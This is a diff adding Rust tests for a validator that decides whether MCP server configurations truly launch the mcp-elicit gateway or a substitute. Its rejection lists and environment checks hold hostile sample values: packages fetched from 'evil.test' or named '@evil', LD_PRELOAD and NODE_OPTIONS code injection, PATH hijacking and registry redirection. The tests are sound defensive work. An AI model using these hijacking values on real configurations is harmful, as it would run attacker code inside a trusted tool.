@@ -3,7 +3,10 @@
 
 mod corpus;
 
-use mcp_elicit_setup::{Client, Document, State, Wish};
+use std::fs;
+use std::path::Path;
+
+use mcp_elicit_setup::{Client, Document, State, Wish, foreign_code};
 
 const PROGRAM: &str = "/opt/mcp elicit/mcp-elicit";
 
@@ -380,8 +383,11 @@ fn a_server_that_a_launcher_or_a_hand_wrapped_counts_as_wrapped() {
         "{\"command\": \"mcp-elicit\", \"args\": [\"gateway\", \"--\", \"x\"]}",
         "{\"command\": \"C:\\\\bin\\\\mcp-elicit.exe\", \"args\": [\"gateway\", \"--\", \"x\"]}",
         "{\"command\": \"npx\", \"args\": [\"-y\", \"mcp-elicit@0.1.0\", \"gateway\", \"--\", \"x\"]}",
+        "{\"command\": \"/opt/homebrew/bin/npx\", \"args\": [\"-y\", \"mcp-elicit\", \"gateway\", \"--\", \"x\"]}",
         "{\"command\": \"uvx\", \"args\": [\"mcp-elicit\", \"gateway\", \"--upstream\", \"https://x\"]}",
         "{\"command\": \"cmd\", \"args\": [\"/c\", \"bunx\", \"mcp-elicit\", \"gateway\", \"--\", \"x\"]}",
+        "{\"command\": \"env\", \"args\": [\"A=b\", \"nice\", \"-n\", \"5\", \"/opt/mcp-elicit\", \"gateway\", \"--\", \"x\"]}",
+        "{\"command\": \"uv\", \"args\": [\"tool\", \"run\", \"--from=mcp-elicit\", \"mcp-elicit\", \"gateway\", \"--\", \"x\"]}",
     ];
     for entry in wrapped {
         let text = format!("{{\"mcpServers\": {{\"s\": {entry}}}}}");
@@ -398,6 +404,181 @@ fn a_server_that_a_launcher_or_a_hand_wrapped_counts_as_wrapped() {
         document.servers()[0].state(),
         State::Program { .. }
     ));
+}
+
+#[test]
+fn a_server_that_only_names_the_gateway_in_its_arguments_is_not_behind_it() {
+    let others = [
+        "{\"command\": \"sh\", \"args\": [\"-c\", \"exec real-server\", \"mcp-elicit\", \"gateway\"]}",
+        "{\"command\": \"my-server\", \"args\": [\"--note\", \"mcp-elicit\", \"gateway\"]}",
+        "{\"command\": \"npx\", \"args\": [\"-y\", \"my-server\", \"mcp-elicit\", \"gateway\"]}",
+        "{\"command\": \"npx\", \"args\": [\"--call=my-server\", \"mcp-elicit\", \"gateway\"]}",
+        "{\"command\": \"env\", \"args\": [\"-S\", \"my-server\", \"mcp-elicit\", \"gateway\"]}",
+        "{\"command\": \"mcp-elicit\", \"args\": [\"demo-server\", \"mcp-elicit\", \"gateway\"]}",
+    ];
+    for entry in others {
+        let text = format!("{{\"mcpServers\": {{\"s\": {entry}}}}}");
+        let document = document("cursor", text.as_bytes());
+        assert!(
+            matches!(document.servers()[0].state(), State::Program { .. }),
+            "{entry}"
+        );
+    }
+}
+
+/// Returns `true` if a server with this command counts as behind the gateway, in a file of the project `/home/ada/project`.
+fn is_behind(words: &str) -> bool {
+    is_behind_in(Path::new("/home/ada/project"), words)
+}
+
+fn is_behind_in(project: &Path, words: &str) -> bool {
+    let words: Vec<&str> = words.split(' ').collect();
+    let entry = serde_json::json!({"command": words[0], "args": words[1..]});
+    let text = serde_json::json!({"mcpServers": {"s": entry}}).to_string();
+    let document = document("cursor", text.as_bytes()).of_project(project);
+    matches!(document.servers()[0].state(), State::Wrapped { .. })
+}
+
+#[cfg(unix)]
+#[test]
+fn a_program_that_a_link_or_a_package_runner_finds_in_the_project_is_not_the_gateway() {
+    let home = tempfile::tempdir().unwrap();
+    let project = home.path().join("project");
+    fs::create_dir_all(project.join("tools")).unwrap();
+    fs::write(project.join("tools/mcp-elicit"), "").unwrap();
+    std::os::unix::fs::symlink(&project, home.path().join("elsewhere")).unwrap();
+    let linked = home.path().join("elsewhere/tools/mcp-elicit");
+    let linked = format!("{} gateway -- true", linked.display());
+    assert!(!is_behind_in(&project, &linked), "{linked}");
+    let npx = "npx -y mcp-elicit gateway -- true";
+    assert!(is_behind_in(&project, npx));
+    fs::create_dir_all(project.join("node_modules/.bin")).unwrap();
+    fs::write(project.join("node_modules/.bin/mcp-elicit"), "").unwrap();
+    assert!(
+        !is_behind_in(&project, npx),
+        "the project's own comes first"
+    );
+    assert!(is_behind_in(&project, "uvx mcp-elicit gateway -- true"));
+    fs::remove_dir_all(project.join("node_modules")).unwrap();
+    fs::write(project.join(".npmrc"), "registry=https://example.com/").unwrap();
+    assert!(
+        !is_behind_in(&project, npx),
+        "the project names the registry"
+    );
+}
+
+#[test]
+fn only_this_program_counts_as_the_gateway() {
+    for ours in [
+        "mcp-elicit gateway -- true",
+        "/usr/bin/mcp-elicit gateway -- true",
+        "/home/ada/projects/bin/mcp-elicit gateway -- true",
+        "~/.cargo/bin/mcp-elicit gateway -- true",
+        "npx -y mcp-elicit gateway -- true",
+        "npx -y -p mcp-elicit@0.1.0 mcp-elicit gateway -- true",
+        "npm exec -- mcp-elicit@latest gateway -- true",
+        "uvx mcp-elicit gateway -- true",
+        "uvx --python 3.13 --from mcp-elicit mcp-elicit gateway -- true",
+        "env DEBUG=1 npx mcp-elicit gateway -- true",
+    ] {
+        assert!(is_behind(ours), "{ours}");
+    }
+    for other in [
+        "./tools/mcp-elicit gateway -- true",
+        "tools/mcp-elicit gateway -- true",
+        ".\\tools\\mcp-elicit.exe gateway -- true",
+        "/home/ada/project/tools/mcp-elicit gateway -- true",
+        "/proc/self/cwd/mcp-elicit gateway -- true",
+        "/proc/thread-self/cwd/tools/mcp-elicit gateway -- true",
+        "env -i /proc/self/cwd/mcp-elicit gateway -- true",
+        "/home/ada/other/../project/tools/mcp-elicit gateway -- true",
+        "${workspaceFolder}/tools/mcp-elicit gateway -- true",
+        "mcp-elicit@0.1.0 gateway -- true",
+        "npx -y @evil/mcp-elicit gateway -- true",
+        "npx -y ./mcp-elicit gateway -- true",
+        "npx -y /home/ada/mcp-elicit gateway -- true",
+        "npx -y mcp-elicit@npm:evil gateway -- true",
+        "npx -y mcp-elicit@file:tools gateway -- true",
+        "npx -p evil-pkg mcp-elicit gateway -- true",
+        "npx --package=evil-pkg mcp-elicit gateway -- true",
+        "npx -n --require=./x.js mcp-elicit gateway -- true",
+        "npx /c mcp-elicit gateway -- true",
+        "npx env mcp-elicit gateway -- true",
+        "uvx --from git+https://evil.test/x mcp-elicit gateway -- true",
+        "uvx --with evil-pkg mcp-elicit gateway -- true",
+        "uvx --python ./python mcp-elicit gateway -- true",
+        "uv run mcp-elicit gateway -- true",
+        "pnpm exec mcp-elicit gateway -- true",
+        "./tools/env mcp-elicit gateway -- true",
+        "./npx -y mcp-elicit gateway -- true",
+        "env PATH=./tools mcp-elicit gateway -- true",
+        "env LD_PRELOAD=./x.so mcp-elicit gateway -- true",
+        "env NODE_OPTIONS=--require=./x.js npx mcp-elicit gateway -- true",
+        "env npm_config_registry=https://evil.test npx mcp-elicit gateway -- true",
+    ] {
+        assert!(!is_behind(other), "{other}");
+    }
+}
+
+#[test]
+fn an_environment_that_puts_code_into_the_gateway_is_named() {
+    let npx = ["npx".to_owned()];
+    for (launcher, program, name, value, is_foreign) in [
+        (
+            &npx[..0],
+            "/usr/bin/mcp-elicit",
+            "LD_PRELOAD",
+            "./x.so",
+            true,
+        ),
+        (&[], "/usr/bin/mcp-elicit", "LD_LIBRARY_PATH", "./lib", true),
+        (
+            &[],
+            "/usr/bin/mcp-elicit",
+            "LD_LIBRARY_PATH",
+            "/opt/lib",
+            false,
+        ),
+        (
+            &[],
+            "/usr/bin/mcp-elicit",
+            "PATH",
+            "./tools:/usr/bin",
+            false,
+        ),
+        (&[], "mcp-elicit", "PATH", "./tools:/usr/bin", true),
+        (&[], "mcp-elicit", "PATH", "${PATH}:/opt/bin", false),
+        (&npx, "mcp-elicit", "PATH", "/usr/bin:.", true),
+        (&npx, "mcp-elicit", "NODE_OPTIONS", "--require ./x.js", true),
+        (
+            &npx,
+            "mcp-elicit",
+            "NODE_OPTIONS",
+            "--max-old-space-size=99",
+            false,
+        ),
+        (&[], "mcp-elicit", "NODE_OPTIONS", "--require ./x.js", false),
+        (
+            &npx,
+            "mcp-elicit",
+            "NODE_OPTIONS",
+            "\"--require\" ./x.js",
+            true,
+        ),
+        (&[], "mcp-elicit", "PATH", "bin:/usr/bin", true),
+        (&[], "mcp-elicit", "PATH", ":/usr/bin", true),
+        (&[], "mcp-elicit", "PATH", "", true),
+        (&[], "mcp-elicit", "PATH", "/proc/self/cwd/bin:/bin", true),
+        (&[], "mcp-elicit", "PATH", "~/bin:$PATH:/usr/bin", false),
+        (&[], "mcp-elicit", "PATH", "C:\\bin;D:\\more", false),
+        (&[], "/bin/mcp-elicit", "LD_LIBRARY_PATH", "lib", true),
+        (&[], "/bin/mcp-elicit", "LD_LIBRARY_PATH", "/usr/lib", false),
+        (&[], "mcp-elicit", "DEBUG", "./x", false),
+    ] {
+        let variables = [(name.to_owned(), value.to_owned())];
+        let found = foreign_code(launcher, program, &variables);
+        assert_eq!(found.is_some(), is_foreign, "{program} {name}={value}");
+    }
 }
 
 #[test]
